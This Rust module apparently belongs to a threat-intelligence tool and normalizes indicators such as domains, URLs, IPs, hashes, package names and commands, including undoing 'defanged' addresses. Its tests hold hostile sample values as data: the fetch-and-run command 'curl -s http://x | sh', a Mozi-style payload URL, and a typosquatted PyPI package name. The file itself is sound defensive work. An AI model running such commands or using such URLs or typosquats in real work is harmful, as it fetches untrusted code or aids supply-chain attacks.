//! The form in which two values are compared.

use std::net::IpAddr;

use ipnet::IpNet;
use percent_encoding::percent_decode_str;

use crate::fingerprint::Fingerprint;
use crate::indicator::Kind;

/// Longest value, in bytes: the longest URLs that browsers take.
pub(crate) const VALUE_BYTES_MAX: usize = 2_048;

/// How addresses are written that nobody is to click on.
pub(crate) const DEFANGED: [(&str, &str); 5] = [("[.]", "."), ("(.)", "."), ("[:]", ":"), ("[@]", "@"), ("[://]", "://")];
/// Rounds of undoing that.
const ROUNDS_MAX: usize = 8;

/// The normal form of a value of a kind, or nothing where it is none of that kind.
///
/// Feeds "defang" addresses (`hxxp://`, `[.]`); that is undone. A prompt is given as its text, or as its fingerprint.
#[must_use]
pub fn normalize(kind: Kind, raw: &str) -> Option<String> {
    let raw = raw.trim();
    match kind {
        Kind::Prompt => return Fingerprint::exact_value(raw),
        Kind::NearPrompt => return Fingerprint::near_value(raw),
        _ => {}
    }
    if raw.is_empty() || raw.len() > VALUE_BYTES_MAX {
        return None;
    }
    match kind {
        Kind::Domain => domain(&refanged(raw)),
        Kind::Url => url(&refanged(raw)),
        Kind::Ip => ip(&refanged(raw)),
        Kind::Email => email(&refanged(raw)),
        Kind::Hash => hash(raw),
        Kind::UserAgent => Some(raw.to_owned()),
        Kind::Command => Some(raw.split_whitespace().collect::<Vec<_>>().join(" ")),
        Kind::Package => package(raw),
        Kind::McpServer => Some(raw.to_lowercase()),
        Kind::Prompt | Kind::NearPrompt => None,
    }
}

/// Undoes what makes an address in a report not one that can be clicked on.
fn refanged(raw: &str) -> String {
    let mut text = raw.to_owned();
    // Each round makes the text shorter, but for the schemes; nobody defangs what is defanged more than once.
    for _ in 0..ROUNDS_MAX {
        let before = text.len();
        for (from, to) in DEFANGED {
            if text.contains(from) {
                text = text.replace(from, to);
            }
        }
        if text.len() == before {
            break;
        }
    }
    for (from, to) in [("hxxps://", "https://"), ("hxxp://", "http://"), ("hXXps://", "https://"), ("hXXp://", "http://")] {
        if let Some(rest) = text.strip_prefix(from) {
            text = format!("{to}{rest}");
        }
    }
    text
}

/// A domain in lower case, without a dot at its end. Names in other scripts stand in the form that DNS has (`xn--`); those that do
/// not are compared as they are.
pub(crate) fn domain(raw: &str) -> Option<String> {
    let name = raw.trim_end_matches('.').strip_prefix("*.").unwrap_or(raw.trim_end_matches('.')).to_lowercase();
    let is_label =
        |label: &str| (1..=63).contains(&label.len()) && label.chars().all(|c| c.is_alphanumeric() || matches!(c, '-' | '_'));
    let has_letter = name.rsplit('.').next().is_some_and(|last| last.chars().any(char::is_alphabetic));
    (name.len() <= 253 && name.contains('.') && has_letter && name.split('.').all(is_label)).then_some(name)
}

/// An address, or a network in the form `10.0.0.0/8`; one address is itself.
pub(crate) fn ip(raw: &str) -> Option<String> {
    if let Ok(address) = raw.trim_matches(['[', ']']).parse::<IpAddr>() {
        return Some(address.to_canonical().to_string());
    }
    let net: IpNet = raw.parse().ok()?;
    let net = net.trunc();
    Some(if net.prefix_len() == net.max_prefix_len() { net.addr().to_string() } else { net.to_string() })
}

fn email(raw: &str) -> Option<String> {
    let raw = raw.strip_prefix("mailto:").unwrap_or(raw).to_lowercase();
    let (local, host) = raw.rsplit_once('@')?;
    (!local.is_empty() && local.len() <= 64 && !local.contains(char::is_whitespace) && domain(host).is_some()).then_some(raw)
}

/// MD5, SHA-1, SHA-224, SHA-256, SHA-384 or SHA-512 in lower case.
pub(crate) fn hash(raw: &str) -> Option<String> {
    let digits = ["sha256:", "sha512:", "sha1:", "md5:"].iter().find_map(|prefix| raw.strip_prefix(prefix)).unwrap_or(raw);
    let is_hash = matches!(digits.len(), 32 | 40 | 56 | 64 | 96 | 128) && digits.bytes().all(|b| b.is_ascii_hexdigit());
    is_hash.then(|| digits.to_ascii_lowercase())
}

/// `ecosystem/name` or `ecosystem/name@version`, as in `pypi/requests` and `npm/@scope/name@1.0`; also a package URL (`pkg:npm/...`).
/// Names of PyPI are compared as PyPI compares them.
fn package(raw: &str) -> Option<String> {
    let raw = match raw.strip_prefix("pkg:") {
        Some(url) => percent_decode_str(url.split(['?', '#']).next().unwrap_or(url)).decode_utf8().ok()?.to_lowercase(),
        None => raw.to_lowercase(),
    };
    let (ecosystem, rest) = raw.split_once('/')?;
    let (name, version) = match rest.char_indices().rfind(|(at, c)| *c == '@' && *at > 0) {
        Some((at, _)) => (&rest[..at], Some(&rest[at + 1..])),
        None => (rest, None),
    };
    let name = if ecosystem == "pypi" { canonical_pypi(name) } else { name.to_owned() };
    let is_part = |text: &str| {
        !text.is_empty() && text.chars().all(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | '.' | '+' | '/' | '~' | '!'))
    };
    let is_known = is_part(ecosystem) && is_part(name.strip_prefix('@').unwrap_or(&name)) && version.is_none_or(is_part);
    is_known.then(|| version.map_or_else(|| format!("{ecosystem}/{name}"), |version| format!("{ecosystem}/{name}@{version}")))
}

/// PEP 503: runs of `-`, `_` and `.` are one hyphen.
fn canonical_pypi(name: &str) -> String {
    let parts: Vec<&str> = name.split(['-', '_', '.']).filter(|part| !part.is_empty()).collect();
    parts.join("-")
}

/// A URL in its normal form (RFC 3986, section 6): scheme and host in lower case, no default port, no user, no fragment, what need not be
/// escaped is not, no `.` and `..`.
pub(crate) fn url(raw: &str) -> Option<String> {
    let (scheme, rest) = raw.split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    let is_scheme = (1..=16).contains(&scheme.len()) && scheme.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'+');
    let rest = rest.split('#').next().unwrap_or(rest);
    let (authority, path) = rest.split_at(rest.find(['/', '?', '\\']).unwrap_or(rest.len()));
    let (host, port) = host_and_port(authority)?;
    let default = match scheme.as_str() {
        "http" | "ws" => "80",
        "https" | "wss" => "443",
        "ftp" => "21",
        _ => "",
    };
    if !is_scheme {
        return None;
    }
    let (path, query) = match path.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (path, None),
    };
    let mut out = format!("{scheme}://{host}");
    if let Some(port) = port.filter(|port| !port.is_empty() && *port != default) {
        out.push(':');
        out.push_str(port);
    }
    out.push_str(&without_dots(&unescaped(&path.replace('\\', "/"))));
    if let Some(query) = query {
        out.push('?');
        out.push_str(&unescaped(query));
    }
    Some(out)
}

/// The host, in its normal form, and the port of what stands behind `://`.
pub(crate) fn host_and_port(authority: &str) -> Option<(String, Option<&str>)> {
    let authority = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let (host, port) = if authority.starts_with('[') {
        let end = authority.find(']')?;
        (&authority[..=end], authority[end + 1..].strip_prefix(':'))
    } else {
        match authority.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (authority, None),
        }
    };
    if port.is_some_and(|port| port.len() > 5 || !port.bytes().all(|b| b.is_ascii_digit())) {
        return None;
    }
    let name = percent_decode_str(host).decode_utf8().ok()?;
    let host = match ip(&name) {
        Some(address) if address.contains(':') => format!("[{address}]"),
        Some(address) => address,
        None => domain(&name).or_else(|| (name.eq_ignore_ascii_case("localhost")).then(|| "localhost".to_owned()))?,
    };
    Some((host, port))
}

/// Undoes escapes of letters, digits and `-._~`, and writes the others in capitals.
fn unescaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('%') {
        out.push_str(&rest[..at]);
        let code = rest.get(at + 1..at + 3).filter(|code| code.bytes().all(|b| b.is_ascii_hexdigit()));
        match code.and_then(|code| u8::from_str_radix(code, 16).ok()) {
            Some(byte) if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_' | b'~') => out.push(char::from(byte)),
            Some(_) => {
                out.push('%');
                out.push_str(&code.unwrap_or_default().to_ascii_uppercase());
            }
            None => {
                out.push('%');
                rest = &rest[at + 1..];
                continue;
            }
        }
        rest = &rest[at + 3..];
    }
    out.push_str(rest);
    out
}

/// The path without `.` and `..` (RFC 3986, section 5.2.4). An empty one is `/`.
fn without_dots(path: &str) -> String {
    let mut out: Vec<&str> = Vec::new();
    let parts: Vec<&str> = path.strip_prefix('/').unwrap_or(path).split('/').collect();
    for (index, part) in parts.iter().enumerate() {
        let is_last = index + 1 == parts.len();
        match *part {
            "." | ".." => {
                if *part == ".." {
                    out.pop();
                }
                if is_last {
                    out.push("");
                }
            }
            part => out.push(part),
        }
    }
    format!("/{}", out.join("/"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_have_a_normal_form() {
        for (kind, raw, expected) in [
            (Kind::Domain, "Evil.Example.", Some("evil.example")),
            (Kind::Domain, "*.evil[.]example", Some("evil.example")),
            (Kind::Domain, "10.0.0.1", None),
            (Kind::Domain, "localhost", None),
            (Kind::Domain, "a b.example", None),
            (Kind::Url, "hxxp://EVIL[.]example:80", Some("http://evil.example/")),
            (Kind::Url, "https://u:p@evil.example:8443/a/./b/../c%7e?x=%2f#frag", Some("https://evil.example:8443/a/c~?x=%2F")),
            (Kind::Url, "http://[2001:DB8::1]:80/x", Some("http://[2001:db8::1]/x")),
            (Kind::Url, "http://1.2.3.4:55/Mozi.m", Some("http://1.2.3.4:55/Mozi.m")),
            (Kind::Url, "evil.example/x", None),
            (Kind::Url, "http://evil.example:port/", None),
            (Kind::Ip, "1[.]2.3.4", Some("1.2.3.4")),
            (Kind::Ip, "10.1.2.3/8", Some("10.0.0.0/8")),
            (Kind::Ip, "10.1.2.3/32", Some("10.1.2.3")),
            (Kind::Ip, "::ffff:1.2.3.4", Some("1.2.3.4")),
            (Kind::Ip, "1.2.3", None),
            (Kind::Email, "Eve@Evil.Example", Some("eve@evil.example")),
            (Kind::Email, "eve@localhost", None),
            (Kind::Hash, "sha256:ABCD", None),
            (Kind::Hash, "D41D8CD98F00B204E9800998ECF8427E", Some("d41d8cd98f00b204e9800998ecf8427e")),
            (Kind::Package, "pkg:pypi/Reqeusts_Extra@1.0?x=y", Some("pypi/reqeusts-extra@1.0")),
            (Kind::Package, "npm/@Evil/Name", Some("npm/@evil/name")),
            (Kind::Package, "reqeusts", None),
            (Kind::Command, "curl   -s\thttp://x | sh", Some("curl -s http://x | sh")),
            (Kind::UserAgent, " evil/1.0 ", Some("evil/1.0")),
            (Kind::Url, "", None),
        ] {
            assert_eq!(normalize(kind, raw).as_deref(), expected, "{kind} {raw}");
        }
        assert_eq!(normalize(Kind::UserAgent, &"x".repeat(VALUE_BYTES_MAX + 1)), None);
    }

    proptest::proptest! {
        #[test]
        fn a_normal_form_is_its_own(raw in r"(https?://)?(\PC|[a-z]\.|%[0-9a-f]{2}|/\.\.|:80|@|\[|\]|\?|#){0,20}") {
            for kind in Kind::ALL {
                if let Some(once) = normalize(kind, &raw) {
                    proptest::prop_assert_eq!(normalize(kind, &once), Some(once), "{} {}", kind, raw);
                }
            }
        }
    }
}
